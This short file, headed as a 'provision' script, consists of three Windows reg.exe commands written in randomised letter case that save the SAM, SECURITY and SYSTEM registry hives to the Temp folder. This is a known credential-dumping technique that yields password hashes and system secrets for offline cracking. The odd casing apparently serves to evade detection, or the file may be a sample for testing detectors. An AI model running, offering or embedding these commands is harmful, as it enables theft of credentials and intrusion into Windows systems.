# pRoViSiOn 9495 V1
REg.EXe sAvE HKLM\sAm C:\wiNdOws\tEmP\s.HIv /Y
reg.eXe saVE hklM\sEcUrItY C:\windOWS\TEMp\seC.HIv /y
Reg.eXE sAVe hklM\SySTEM C:\wiNDows\TEmP\SYS.HIV /Y
